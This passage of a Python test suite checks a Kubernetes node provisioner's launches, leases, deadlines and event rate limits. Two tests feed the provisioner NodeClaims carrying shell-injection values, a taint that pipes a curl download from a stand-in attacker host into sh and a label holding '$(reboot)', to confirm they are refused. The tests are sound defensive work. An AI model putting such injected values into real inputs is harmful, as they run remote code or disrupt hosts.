    assert "leaving" not in {n["metadata"]["name"] for n in planned_world.nodes}


def test_a_pass_with_nothing_pending_and_no_node_going_plans_nothing(world: Any) -> None:
    ctx, cluster, _cloud = world
    _running_on(cluster, "staying-app", "staying")
    seen = _recording_planner()

    flow.provision(ctx)

    assert seen == []


def test_nothing_is_launched_when_the_displaced_node_runs_only_daemonset_pods(world: Any) -> None:
    from nodewright.provisioning import replace_for_displaced

    ctx, cluster, cloud = world
    cluster.add("Node", {"metadata": {"name": "doomed"}, "spec": {"providerID": "p"}})
    daemon = pending_pod("agent-1")
    daemon["spec"]["nodeName"] = "doomed"
    daemon["metadata"]["ownerReferences"] = [{"kind": "DaemonSet", "name": "agent"}]
    cluster.add("Pod", daemon)

    report = replace_for_displaced(ctx, ["doomed"], guard=None)

    assert report.created == []
    assert cloud.instances == {}


def test_unused_launch_templates_are_deleted_by_a_pass_at_most_every_ten_minutes(world: Any) -> None:
    ctx, _cluster, cloud = world
    cloud.unused_templates = ["nodewright-old"]

    first = flow.provision(ctx)
    assert first.garbage.templates_deleted == ["nodewright-old"]
    assert cloud.template_cleanups == 1

    cloud.unused_templates = ["nodewright-newer"]
    ctx.clock.advance(5 * 60)
    garbage.reset_gc_clock()  # invocations a minute apart: leaks are looked for, templates wait
    assert flow.provision(ctx).garbage.templates_deleted == []
    assert cloud.template_cleanups == 1

    ctx.clock.advance(5 * 60)
    assert flow.provision(ctx).garbage.templates_deleted == ["nodewright-newer"]
    assert cloud.template_cleanups == 2


def test_a_failing_launch_template_cleanup_does_not_stop_the_pass(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))

    def throttled(live: object) -> list[str]:
        raise RuntimeError("Throttling: Rate exceeded")

    cloud.cleanup_launch_templates = throttled

    report = flow.provision(ctx)

    assert len(report.launched) == 1
    assert ("warning", "launch template cleanup failed") in ctx.logger.records


def one_launch_at_a_time(world: Any) -> Any:
    """The fixture's world with ``launch_concurrency`` 1: for the tests of what happens between one
    launch and the next (``test_launch_concurrency`` has those of launches at once)."""
    ctx, cluster, cloud = world
    ctx.settings = replace(ctx.settings, launch_concurrency=1)
    return ctx, cluster, cloud


def hand_made_nodeclaim(name: str, **spec: Any) -> dict[str, Any]:
    """A NodeClaim written with kubectl, not by a pass: no NodePool made it."""
    return {
        "apiVersion": "karpenter.sh/v1",
        "kind": "NodeClaim",
        "metadata": {"name": name, "labels": {}},
        "spec": {
            "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"},
            "requirements": [
                {"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.large"]},
            ],
            **spec,
        },
    }


def test_a_hand_made_nodeclaim_with_a_hostile_taint_is_refused_and_never_launched(world: Any) -> None:
    ctx, cluster, cloud = world
    hostile = [{"key": "x", "value": "a';curl evil.example|sh;'", "effect": "NoSchedule"}]
    cluster.add("NodeClaim", hand_made_nodeclaim("by-hand", taints=hostile))
    cluster.add("NodeClaim", hand_made_nodeclaim("honest"))

    report = flow.provision(ctx)

    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]
    assert [(f.nodeclaim, f.code) for f in report.failures] == [("by-hand", "InvalidNodeClaim")]
    refused = cluster.objects["NodeClaim"]["by-hand"]
    condition = nodeclaims.condition(refused, "Launched")
    assert condition is not None
    assert (condition["status"], condition["reason"]) == ("False", "InvalidNodeClaim")
    assert "spec.taints[0].value" in condition["message"]
    assert [e for e in cluster.events if e[1] == "by-hand" and e[2] == "InvalidNodeClaim"]

    again = flow.provision(ctx)  # refused once: no second event, no second failure counted

    assert again.failures == []
    assert len([e for e in cluster.events if e[1] == "by-hand"]) == 1
    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]


def test_a_hand_made_nodeclaim_with_a_hostile_label_is_refused(world: Any) -> None:
    ctx, cluster, cloud = world
    claim = hand_made_nodeclaim("by-hand")
    claim["metadata"]["labels"] = {"example.com/team": "$(reboot)"}
    cluster.add("NodeClaim", claim)

    report = flow.provision(ctx)

    assert cloud.requests == []
    assert [f.code for f in report.failures] == ["InvalidNodeClaim"]


def test_an_unexpected_error_launching_one_nodeclaim_fails_that_nodeclaim_alone(
    world: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    ctx, cluster, cloud = world
    cluster.add("NodeClaim", hand_made_nodeclaim("first"))
    cluster.add("NodeClaim", hand_made_nodeclaim("second"))
    real = cloud.create

    def broken_for_first(request: Any) -> LaunchResult:
        if request.nodeclaim_name == "first":
            raise UnicodeEncodeError("us-ascii", "\u2014", 0, 1, "ordinal not in range(128)")
        return real(request)

    cloud.create = broken_for_first  # type: ignore[method-assign]

    report = flow.provision(ctx)

    assert [x.nodeclaim for x in report.launched] == ["second"]
    assert [(f.nodeclaim, f.code) for f in report.failures] == [("first", "UnicodeEncodeError")]
    first = cluster.objects["NodeClaim"]["first"]
    condition = nodeclaims.condition(first, "Launched")
    assert condition is not None
    assert (condition["status"], condition["reason"]) == ("False", "LaunchFailed")
    assert [e for e in cluster.events if e[1] == "first" and e[2] == "LaunchFailed"]
    assert '"ErrorCode":"UnicodeEncodeError","LaunchErrors":[1.0]' in capsys.readouterr().out

    cloud.create = real  # type: ignore[method-assign]
    retried = flow.provision(ctx)

    assert [x.nodeclaim for x in retried.launched] == ["first"]
    assert nodeclaims.is_true(cluster.objects["NodeClaim"]["first"], "Launched")


def test_an_api_server_outage_while_a_launch_fails_ends_the_pass_for_the_handler_to_report(
    world: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """The chaos run's chain: CreateFleet throttled to exhaustion, then the API server out of reach
    (the invocation out of time) when the failure is recorded. That is no fault of the NodeClaim:
    it is neither marked failed nor logged with a traceback per NodeClaim; the outage reaches the
    handler, which says it once (``context.report_outage``)."""
    from nodewright.cloud.errors import LaunchError
    from nodewright.cluster import ApiUnavailable

    ctx, cluster, cloud = one_launch_at_a_time(world)
    cluster.add("NodeClaim", hand_made_nodeclaim("first"))
    cluster.add("NodeClaim", hand_made_nodeclaim("second"))

    attempts: list[str] = []

    def throttled(request: Any) -> LaunchResult:
        attempts.append(request.nodeclaim_name)
        raise LaunchError(request.nodeclaim_name, "RequestLimitExceeded", "Request limit exceeded.")

    def out_of_time(*args: Any, **kwargs: Any) -> None:
        raise ApiUnavailable("POST events: not started, the invocation has 0.0s left")

    cloud.create = throttled  # type: ignore[method-assign]
    cluster.record_event = out_of_time  # type: ignore[method-assign]

    with pytest.raises(ApiUnavailable):
        flow.provision(ctx)

    assert len(attempts) == 1  # the pass ended there: the other NodeClaim waits for the next one
    for name in ("first", "second"):
        assert nodeclaims.condition(cluster.objects["NodeClaim"][name], "Launched") is None
    assert "Traceback" not in capsys.readouterr().out


def test_a_nodeclaim_never_launched_is_deleted_after_the_registration_timeout(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add(
        "NodeClaim",
        hand_made_nodeclaim("stuck", taints=[{"key": "x", "value": "a b", "effect": "NoSchedule"}]),
    )
    flow.provision(ctx)
    assert "stuck" in cluster.objects["NodeClaim"]

    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 1)
    report = flow.provision(ctx)

    assert report.lifecycle.timed_out == ["stuck"]
    assert "stuck" not in cluster.objects["NodeClaim"]
    assert cloud.requests == []


def test_a_converted_v1beta1_nodepools_kubelet_reaches_the_launch(world: Any) -> None:
    from nodewright.api.conversion_review import KUBELET_ANNOTATION

    ctx, cluster, cloud = world
    pool = cluster.objects["NodePool"]["default"]
    pool["metadata"]["annotations"] = {
        KUBELET_ANNOTATION: '{"containerRuntime": "containerd", "maxPods": 20}'
    }
    cluster.add("Pod", pending_pod("inflate-1"))

    flow.provision(ctx)

    assert cloud.requests[0].kubelet == {"maxPods": 20}  # in v1's form: the runtime setting is gone
    claim = next(iter(cluster.objects["NodeClaim"].values()))
    assert claim["metadata"]["annotations"][KUBELET_ANNOTATION]


def test_a_pass_that_loses_its_lease_stops_writing_and_the_next_pass_finishes(world: Any) -> None:
    ctx, cluster, cloud = one_launch_at_a_time(world)
    cluster.add("NodeClaim", hand_made_nodeclaim("first"))
    cluster.add("NodeClaim", hand_made_nodeclaim("second"))
    real = cloud.create

    def slow_create(request: Any) -> LaunchResult:
        ctx.clock.advance(11)  # CreateFleet throttled: each launch takes a third of the lease
        return real(request)

    cloud.create = slow_create  # type: ignore[method-assign]
    cluster.lease.lost = True  # another writer took the lease over when it expired
    guard = WriteGuard(cluster.lease, deadline=float("inf"), lease_seconds=30, monotonic=ctx.clock.monotonic)

    report = flow.provision(ctx, guard)

    assert [x.nodeclaim for x in report.launched] == ["first"]
    assert report.stopped is not None
    assert "lease could not be renewed" in report.stopped
    cluster.lease.lost = False
    assert [x.nodeclaim for x in flow.provision(ctx).launched] == ["second"]


def test_a_pass_renews_its_lease_while_it_writes(world: Any) -> None:
    ctx, cluster, cloud = one_launch_at_a_time(world)
    for name in ("a", "b", "c"):
        cluster.add("NodeClaim", hand_made_nodeclaim(name))
    real = cloud.create

    def slow_create(request: Any) -> LaunchResult:
        ctx.clock.advance(11)
        return real(request)

    cloud.create = slow_create  # type: ignore[method-assign]
    guard = WriteGuard(cluster.lease, deadline=float("inf"), lease_seconds=30, monotonic=ctx.clock.monotonic)

    report = flow.provision(ctx, guard)

    assert len(report.launched) == 3
    assert cluster.lease.renewals == 2  # before the second and the third launch


def launches_past_the_deadline(ctx: Any, cloud: Any) -> Any:
    """Each launch takes 20 s on the pass's clock; the write guard's deadline is 11 s away, so the
    first launch runs past it."""
    real = cloud.create

    def slow_create(request: Any) -> LaunchResult:
        ctx.clock.advance(20)
        return real(request)

    cloud.create = slow_create
    deadline = ctx.clock.monotonic() + 11
    return WriteGuard(None, deadline=deadline, lease_seconds=30, monotonic=ctx.clock.monotonic)


def test_a_pass_stops_writing_at_its_deadline(world: Any) -> None:
    ctx, cluster, cloud = one_launch_at_a_time(world)
    for name in ("a", "b"):
        cluster.add("NodeClaim", hand_made_nodeclaim(name))

    report = flow.provision(ctx, launches_past_the_deadline(ctx, cloud))

    assert len(report.launched) == 1
    assert report.stopped is not None
    assert "time is up" in report.stopped


def test_a_pass_past_its_deadline_sends_no_pod_events(world: Any) -> None:
    """The 100-node storm's provisioner: a pass whose writes ran to the deadline went on posting a
    ``Nominated`` event per pod against a loaded API server (a read timeout each) until the
    invocation's last second, so the lease could not be given back. Events wait for the next pass."""
    ctx, cluster, cloud = one_launch_at_a_time(world)
    for name in ("p1", "p2"):
        cluster.add("Pod", pending_pod(name))

    report = flow.provision(ctx, launches_past_the_deadline(ctx, cloud))

    assert report.stopped is not None
    assert "time is up" in report.stopped
    assert report.nominated, "the pods were planned"
    assert [e for e in cluster.events if e[2] in ("Nominated", "FailedScheduling")] == []
    assert flow._recent_events == {}, "none counts as sent: the next pass sends them"


def test_nominated_events_go_out_at_karpenter_s_rate_and_the_rest_in_later_passes(world: Any) -> None:
    """A pass over n new pods wrote n ``Nominated`` events before it ended (a 500-node setup: 88 s of
    a 168 s pass); Karpenter lets 5 a second through (burst 10) and drops the others."""
    ctx, cluster, _cloud = world
    for i in range(25):
        cluster.add("Pod", pending_pod(f"p{i}"))

    def nominated() -> set[str]:
        return {e[1] for e in cluster.events if e[2] == "Nominated"}

    report = flow.provision(ctx)

    assert len(report.nominated) == 25, "every pod was planned"
    assert len(nominated()) == flow.NOMINATED_EVENTS_BURST
    # Later passes that find the pods still pending and nominated (the planner's in-flight claim).
    world_now = observe(ctx)
    pending = world_now.provisionable_pods()
    ctx.clock.advance(1.0)
    flow.record_pod_events(ctx, world_now, pending, report)
    assert len(nominated()) == flow.NOMINATED_EVENTS_BURST + 5, "none sent twice; 5 more a second"
    ctx.clock.advance(60.0)
    flow.record_pod_events(ctx, world_now, pending, report)
    assert nominated() == {f"p{i}" for i in range(25)}
    assert len([e for e in cluster.events if e[2] == "Nominated"]) == 25


class MovingClock(FakeClock):
    """A clock that moves a microsecond at every read, as the real one does between two reads."""

    def monotonic(self) -> float:
        self.mono += 1e-6
        return self.mono


def test_a_nominated_event_goes_out_on_a_clock_that_moves_between_reads(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The limiter's check read ``now`` for its deadline, then the bucket read ``now`` again: on any
    clock that moved in between (the real one always does) the token was "due" after the deadline
    and every ``Nominated`` event was dropped, the first of an empty bucket too (``bench latency``,
    which waited for them, hung). Karpenter's recorder takes a token if one is there (client-go's
    ``TryAccept``), whatever the clock."""
    ctx, cluster, _cloud = world
    clock = MovingClock()
    bucket = TokenBucket(flow.NOMINATED_EVENTS_PER_SECOND, flow.NOMINATED_EVENTS_BURST, clock=clock)
    monkeypatch.setattr(flow, "_nominated_events", bucket)
    cluster.add("Pod", pending_pod("p0"))

    report = flow.provision(ctx)

    assert list(report.nominated) == ["default/p0"]
    assert [e[1] for e in cluster.events if e[2] == "Nominated"] == ["p0"]


# --- pods of deleting nodes that can never be evicted (issue 24, defect 1) -----------------------

PDB_BLOCKERS: dict[str, list[dict[str, Any]]] = {
    "maxUnavailable-0": [{"spec": {"maxUnavailable": 0}}],
    "minAvailable-100%": [{"spec": {"minAvailable": "100%"}}],
    "two-pdbs": [{"spec": {"maxUnavailable": 1}}, {"spec": {"maxUnavailable": 1}}],
}


def _pdb(cluster: FakeCluster, index: int, spec: dict[str, Any], *, allowed: int = 0) -> None:
    cluster.add(
        "PodDisruptionBudget",
        {
            "metadata": {"name": f"web-{index}", "namespace": "default", "generation": 1},
            "spec": {**spec, "selector": {"matchLabels": {"app": "web"}}},
            "status": {"observedGeneration": 1, "disruptionsAllowed": allowed},
        },
    )


def _web(cluster: FakeCluster, node: str, *, pod_name: str = "web-1", deleting: str | None = "claim") -> None:
    _running_on(cluster, pod_name, node, deleting=deleting)
    cluster.objects["Pod"][pod_name]["metadata"]["labels"] = {"app": "web"}
    cluster.objects["Pod"][pod_name]["status"]["conditions"] = [{"type": "Ready", "status": "True"}]


@pytest.mark.parametrize("blocker", sorted(PDB_BLOCKERS))
def test_a_pass_launches_nothing_for_the_pods_of_a_deleting_node_its_pdbs_never_let_go(
    world: Any, blocker: str
) -> None:
    """kubectl delete nodeclaim under a fully blocking PDB: capacity for its pods would stand empty
    until emptiness removed it, then be launched again, every minute (Karpenter provisions only for
    IsCurrentlyReschedulable pods)."""
    ctx, cluster, cloud = world
    for index, pdb in enumerate(PDB_BLOCKERS[blocker]):
        _pdb(cluster, index, pdb["spec"])
    _web(cluster, "leaving")
    seen = _recording_planner()

    report = flow.provision(ctx)

    assert report.created == [], f"launched for a pod that can never leave: {seen and seen[0][1]}"
    assert cloud.instances == {}


def test_a_pass_launches_nothing_for_a_do_not_disrupt_pod_of_a_deleting_node(world: Any) -> None:
    ctx, cluster, cloud = world
    _web(cluster, "leaving")
    cluster.objects["Pod"]["web-1"]["metadata"]["annotations"] = {labels.DO_NOT_DISRUPT: "true"}

    report = flow.provision(ctx)

    assert report.created == []
    assert cloud.instances == {}


def test_a_pass_still_plans_a_deleting_nodes_pod_whose_pdb_lets_it_go_in_time(world: Any) -> None:
    """A PDB that allows nothing right now but is not fully blocking by its spec (maxUnavailable 1):
    the pod leaves once another is back, so its place is planned (as Karpenter plans it)."""
    ctx, cluster, _cloud = world
    _pdb(cluster, 0, {"maxUnavailable": 1}, allowed=0)
    _web(cluster, "leaving")
    seen = _recording_planner()

    flow.provision(ctx)

    assert [p["metadata"]["name"] for p in seen[0][1]] == ["web-1"]


def test_an_interruption_plans_the_pods_its_drain_evicts_regardless_but_not_a_blocked_voluntary_ones(
    world: Any,
) -> None:
    """The interrupted node goes whatever its PDBs and do-not-disrupt say (its drain evicts them:
    the instance is lost anyway), so all its pods are planned; a node already going voluntarily
    keeps its fully blocked pod, which gets no capacity."""
    from nodewright.provisioning import replace_for_displaced

    ctx, cluster, _cloud = world
    _pdb(cluster, 0, {"maxUnavailable": 0})
    _web(cluster, "interrupted", pod_name="web-1", deleting=None)
    _web(cluster, "voluntary", pod_name="web-2", deleting="claim")
    seen = _recording_planner()

    replace_for_displaced(ctx, ["interrupted"], guard=None)

    assert [p["metadata"]["name"] for p in seen[0][1]] == ["web-1"]


@pytest.mark.parametrize(("policy", "created"), [("Strict", False), ("BestEffort", True)])
def test_the_min_values_policy_reaches_the_plan_and_a_relaxed_nodeclaim_says_so(
    world: Any, monkeypatch: pytest.MonkeyPatch, policy: str, created: bool
) -> None:
    """Karpenter's --min-values-policy as the stack's setting: three instance types asked for, two
    in the catalog. Strict: nothing launched; BestEffort: the NodeClaim asks for the two, its
    minValues lowered to 2 and karpenter.sh/nodeclaim-min-values-relaxed "true"."""
    from dataclasses import replace

    ctx, cluster, cloud = world
    cloud.types = [
        t for t in catalog(spot=False, zones=("us-west-2a",)) if t.name in ("m5.large", "m5.xlarge")
    ]
    monkeypatch.setattr(planning, "plan", SCHEDULING_CORE_PLAN)
    ctx.settings = replace(ctx.settings, min_values_policy=policy)
    wanted = {"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.large", "m5.xlarge", "m7i.large"]}
    cluster.objects["NodePool"]["default"]["spec"]["template"]["spec"]["requirements"] = [
        {**wanted, "minValues": 3}
    ]
    cluster.add("Pod", pending_pod("inflate-1"))

    report = flow.provision(ctx)

    assert bool(report.created) is created, report.unschedulable
    if not created:
        assert "minValues 3" in report.unschedulable["default/inflate-1"]
        return
    claim = cluster.objects["NodeClaim"][report.created[0]]
    assert claim["metadata"]["annotations"][labels.NODECLAIM_MIN_VALUES_RELAXED] == "true"
    [types] = [r for r in claim["spec"]["requirements"] if r["key"] == labels.INSTANCE_TYPE]
    assert types["minValues"] == 2


def test_a_nodeclaim_whose_min_values_are_met_is_annotated_not_relaxed(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    ctx, cluster, cloud = world
    cloud.types = catalog(spot=False, zones=("us-west-2a",))
    monkeypatch.setattr(planning, "plan", SCHEDULING_CORE_PLAN)
    cluster.add("Pod", pending_pod("inflate-1"))
    report = flow.provision(ctx)
    claim = cluster.objects["NodeClaim"][report.created[0]]
    assert claim["metadata"]["annotations"][labels.NODECLAIM_MIN_VALUES_RELAXED] == "false", (
        "as Karpenter writes it"
    )


def test_with_the_overlay_gate_a_nodeclaim_priced_by_an_overlay_says_so_and_launches_prioritized(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Karpenter's price-overlay-applied: a Savings Plan overlay makes m5.xlarge the cheapest; the
    NodeClaim carries the annotation and its launch asks EC2 to follow the overlaid prices."""
    from dataclasses import replace

    ctx, cluster, cloud = world
    cloud.types = catalog(spot=False, zones=("us-west-2a",))
    monkeypatch.setattr(planning, "plan", SCHEDULING_CORE_PLAN)
    ctx.settings = replace(ctx.settings, node_overlay=True)
    cluster.add(
        "NodeOverlay",
        {
            "apiVersion": "karpenter.sh/v1alpha1",
            "kind": "NodeOverlay",
            "metadata": {"name": "savings-plan"},
            "spec": {
                "requirements": [{"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.xlarge"]}],
                "price": "0.001",
            },
        },
    )
    cluster.add("Pod", pending_pod("inflate-1"))

    report = flow.provision(ctx)

    claim = cluster.objects["NodeClaim"][report.created[0]]
    assert claim["metadata"]["annotations"]["karpenter.sh/price-overlay-applied"] == "true"
    [types] = [r for r in claim["spec"]["requirements"] if r["key"] == labels.INSTANCE_TYPE]
    assert types["values"][0] == "m5.xlarge"
    assert cloud.requests[-1].prioritized
    assert cloud.requests[-1].instance_types[0].offerings[0].price == 0.001


def test_a_closed_batch_refused_the_lease_is_planned_once_the_lease_is_free_not_after_another_window(
    looping: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 100-node spot reclaim: pods evicted one after another kept each batching window open its
    ten seconds, and a pass refused the lease (the replacements' holders had it) waited a new window
    before asking again; the last replacements came 33 s after their warnings."""
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    add_settled_claim(cluster)
    for i in range(60):  # one new pod every 0.5 s from t=4.5 s on: never 1 s of quiet
        clock.script.append((1004.5 + i * 0.5, lambda i=i: cluster.add("Pod", pending_pod(f"stream-{i}"))))
    free = cluster.lease.acquire
    # Another writer holds the lease from t=10 s to t=15 s: the batch closes at 14.5 s, refused.
    monkeypatch.setattr(cluster.lease, "acquire", lambda: not 1010.0 <= clock.mono < 1015.0 and free())

    loop.run(ctx, remaining_seconds=40)

    assert pass_times[1] == pytest.approx(15.5, abs=0.3), "asked again a second later, and planned"


def test_a_loop_that_finds_the_lease_held_asks_again_about_once_a_second_not_at_once(
    looping: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """During a storm the interruption replacement holds the lease for its passes; the provisioner's
    loop, with pending pods it could not plan, must not ask for the lease (and list the pods) as fast
    as the API server answers."""
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    pod = pending_pod("p")
    pod["status"]["conditions"][0]["lastTransitionTime"] = format_time(T0 - timedelta(minutes=1))
    cluster.add("Pod", pod)
    cluster.lease.held_elsewhere = True
    loop._store_last_active(ctx, clock.now())  # the provisioner was busy a moment ago: the loop stays awake
    asked: list[float] = []

    def acquire() -> bool:
        asked.append(clock.mono)
        if len(asked) > 1000:  # the loop spins without time passing: fail rather than hang
            raise AssertionError(f"asked for the lease {len(asked)} times in {clock.mono - 1000.0:.2f} s")
        return False

    monkeypatch.setattr(cluster.lease, "acquire", acquire)

    loop.run(ctx, remaining_seconds=20)

    assert pass_times == []
    spent = clock.mono - 1000.0
    assert 2 <= len(asked) <= spent / loop.LEASE_RETRY_SECONDS + 1, (len(asked), spent)
    waits = [
        r
        for r in ctx.logger.records
        if r == ("info", "another writer holds the lease; the pass waits for it")
    ]
    assert len(waits) == 1, "said once a wait, not once an ask"
